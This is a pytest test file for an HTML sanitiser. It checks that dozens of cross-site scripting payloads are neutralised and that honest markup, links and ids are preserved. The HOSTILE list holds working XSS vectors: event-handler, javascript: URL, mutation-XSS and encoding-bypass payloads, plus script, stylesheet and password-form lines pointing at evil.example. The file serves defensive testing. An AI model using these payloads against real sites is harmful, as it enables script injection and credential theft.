"""The sanitiser: what hostile HTML must not keep, and what honest HTML must."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from igny8.core.errors import InvalidInput
from igny8.safety import html
from igny8.safety.html import clean

LIVE_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "svg", "math", "template",
    "base", "meta", "link", "button", "textarea", "select", "frameset", "applet",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "srcset", "action", "formaction", "poster", "cite", "data", "xlink:href",
    "background", "ping",
}  # fmt: skip
SCRIPT_ADDRESS = re.compile(r"(javascript|vbscript|data|file):")


def dangers(markup: str) -> set[str]:
    """What a browser would run or load, found with another parser than the sanitiser's."""
    found = set()
    document = LexborHTMLParser(f"<body>{markup}</body>")
    for node in (document.root or pytest.fail("no document")).traverse():
        tag = str(node.tag)
        if tag in LIVE_TAGS:
            found.add(tag)
        for name, value in node.attributes.items():
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            addresses = address.split(",") if name == "srcset" else [address]
            if name.startswith("on") or name in {"style", "srcdoc", "name"}:
                found.add(name)
            if name in URL_ATTRIBUTES and any(SCRIPT_ADDRESS.match(each) for each in addresses):
                found.add(f"{name}=script")
            if name == "id" and not address.startswith("user-"):
                found.add("id")
    return found


# Harmless as they are; a filter that works on text would make them live.
SPLIT = [
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
]
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a onclick=alert(1) href=/>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 2x, /a.png 1x'>",
    "<video poster=javascript:alert(1) src=/v.mp4></video>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<math><mi><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img onerror=alert(1) src>'></path></style></mtext></svg></mglyph></form></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp><img src=x onerror=alert(1)>",
    "<p id=main name=main>x</p>",
    "<a id=getElementById name=cookie href=/>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]--><p onclick=x>",
    "<![CDATA[<img src=x onerror=alert(1)>]]><img src=x onerror=alert(1)>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<body onload=alert(1)><p onclick=x>",
    "<table><td background=javascript:alert(1)>x",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_that_runs_survives_and_the_judge_sees_it_before(payload: str) -> None:
    assert dangers(payload), "the control: this payload is harmless, so it proves nothing"
    cleaned = clean(payload)
    assert dangers(cleaned) == set()
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize("payload", HOSTILE + SPLIT)
def test_nothing_that_runs_survives_inside_other_markup(payload: str) -> None:
    for frame in ("{}", "<table><tr><td>{}</td></tr></table>", "<ul><li>{}", "<p><b><i>{}</p>x",
                  "<a href='/{}'>x</a>", "<pre>\n{}</pre>", "<h2 title=\"{}\">x</h2>"):  # fmt: skip
        cleaned = clean(frame.format(payload))
        assert dangers(cleaned) == set(), frame
        assert clean(cleaned) == cleaned, frame


PIECES = [
    "<p>", "</p>", "<b>", "</b>", "<a href=/x>", "<a href=//o.example id=a>", "</a>", "<table>",
    "</table>", "<td>", "<tr>", "<caption>", "<ul>", "<li>", "</ul>", "<button>", "</button>",
    "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<select>", "<option>", "<pre>",
    "\n", "\r", "</pre>", "<h2>", "</h2>", "<dd>", "<ruby>", "<rt>", "<form>", "</form>", "text",
    "&lt;", "&amp;lt;", "&#13;", "&nbsp;", "<!--", "-->", "<![CDATA[", "]]>", "'", '"', "<", ">",
    "<img src=x onerror=x>", "<noscript>", "</noscript>", "<template>", "</template>", "<div id=a>",
    "<a href='#a'>", "\x00", "<br>", "</br>", "<details>", "<summary>", "<section>", "<title>",
    "<frameset>", "<body onload=x>", "<plaintext>",
]  # fmt: skip


@settings(max_examples=400, deadline=None, derandomize=True, database=None)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_cleaning_twice_is_cleaning_once(markup: str) -> None:
    cleaned = clean(markup)
    assert clean(cleaned) == cleaned
    assert dangers(cleaned) == set()


def test_honest_markup_stays_as_it_is() -> None:
    honest = (
        '<h2 lang="en">Prices &amp; plans</h2>\n'
        '<p>See <a href="/shop/" title="Shop">the <em>shop</em></a> &lt;now&gt;.</p>'
        '<figure class="alignwide"><img src="/a.webp" alt="A dog" width="640" height="360" '
        'loading="lazy" srcset="/a.webp 640w, https://cdn.example/a@2.webp 2x"><figcaption>A'
        "</figcaption></figure>"
        '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2" '
        'class="has-text-align-right">1</td></tr></tbody></table>'
        '<pre><code class="language-c++">a &amp;&amp; b</code></pre>'
        '<details open=""><summary>More</summary><ol start="3" reversed=""><li value="9">x</li>'
        '</ol></details><video src="/v.mp4" controls="" poster="/p.jpg" width="640"></video>'
        '<p><time datetime="2026-01-01">New year</time> H<sub>2</sub>O <kbd>q</kbd></p>'
    )
    assert clean(honest) == honest


def test_links_between_items_by_id_stay() -> None:
    link = '<a href="igny8:ct_01kabc#prices">prices</a>'
    assert clean(link) == link


def test_an_image_may_not_use_a_scheme_that_only_links_may() -> None:
    assert clean('<img src="igny8:ct_1"><img src="mailto:a@b.c"><a href="mailto:a@b.c">m</a>') == (
        '<img><img><a href="mailto:a@b.c">m</a>'
    )


@pytest.mark.parametrize("href", ["https://o.example/", "HTTP://o.example", "//o.example/x"])
def test_links_that_leave_get_noopener_beside_what_they_say(href: str) -> None:
    assert clean(f'<a href="{href}">x</a>') == f'<a href="{href}" rel="noopener">x</a>'
    assert 'rel="nofollow sponsored noopener"' in clean(
        f'<a rel="nofollow opener SPONSORED evil" href="{href}">x</a>'
    )


def test_links_that_stay_get_no_relation() -> None:
    for href in ("/x/", "#x", "x.html", "?a=1", "igny8:ct_1", "mailto:a@b.example"):
        assert clean(f'<a href="{href}">x</a>') == f'<a href="{href}">x</a>'


@pytest.mark.parametrize("href", ["\\\\evil.example", "/\\evil.example", "https:\\\\evil.example"])
def test_addresses_that_browsers_read_differently_go(href: str) -> None:
    assert clean(f'<a href="{href}">x</a>') == "<a>x</a>"


def test_addresses_lose_the_space_around_them() -> None:
    assert clean('<a href=" /x\n">x</a>') == '<a href="/x">x</a>'


def test_ids_get_a_prefix_and_links_to_them_follow() -> None:
    assert clean('<a href="#note">1</a><p id="note">x</p><a href="#elsewhere">2</a>') == (
        '<a href="#user-note">1</a><p id="user-note">x</p><a href="#elsewhere">2</a>'
    )


def test_the_text_of_unknown_tags_stays_and_the_code_of_scripts_goes() -> None:
    assert clean("<blink>a</blink> <custom-x>b</custom-x> <script>c</script><style>d</style>") == (
        "a b "
    )


def test_line_breaks_that_open_preformatted_text_stay() -> None:
    assert LexborHTMLParser(clean("<pre>\n\nx</pre>")).css("pre")[0].text() == "\nx"
    assert LexborHTMLParser(clean("<pre>\nx</pre>")).css("pre")[0].text() == "x"


def test_deep_nesting_is_refused_before_it_is_parsed() -> None:
    assert clean("<div>" * 300 + "x").endswith("x" + "</div>" * 300)
    with pytest.raises(InvalidInput, match="open inside each other"):
        clean("<div>" * 20_000)
    with pytest.raises(InvalidInput, match="open inside each other"):
        clean("".join(f"<b title={n}>" for n in range(390)) + "<p>x" * 50_000)


def test_long_flat_pages_pass_however_sloppily_they_are_closed() -> None:
    assert clean("<p>x<li>y<br>" * 3_000).count("<li>") == 3_000
    assert clean("<div><b>x</b></div>" * 3_000).count("<b>") == 3_000


def test_text_that_is_no_unicode_is_refused() -> None:
    with pytest.raises(InvalidInput, match="Unicode"):
        clean("a\ud800b")


def test_the_tables_do_not_overlap() -> None:
    assert html.TAGS.isdisjoint(html.DROPPED_WITH_CONTENT)
    assert set(html.ATTRIBUTES) - {"*"} <= html.TAGS
    allowed = set().union(*html.ATTRIBUTES.values())
    assert not {name for name in allowed if name.startswith("on") or name == "style"}
